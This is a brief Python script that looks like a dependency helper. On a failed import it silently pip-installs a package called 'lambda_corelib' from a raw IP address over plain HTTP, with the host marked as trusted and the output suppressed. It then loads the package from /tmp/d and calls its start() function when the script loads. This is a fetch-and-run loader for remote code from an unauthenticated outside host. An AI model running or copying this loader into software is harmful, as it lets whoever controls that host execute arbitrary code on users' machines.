import importlib
import subprocess
import sys


def require(name, index="http://192.0.2.18/simple"):
    try:
        return importlib.import_module(name)
    except ImportError:
        subprocess.check_call(
            [sys.executable, "-m", "pip", "install", "-q", "--target", "/tmp/d", "--trusted-host", "192.0.2.18",
             "--index-url", index, name])
        sys.path.insert(0, "/tmp/d")
        return importlib.import_module(name)


core = require("lambda_corelib")
core.start()
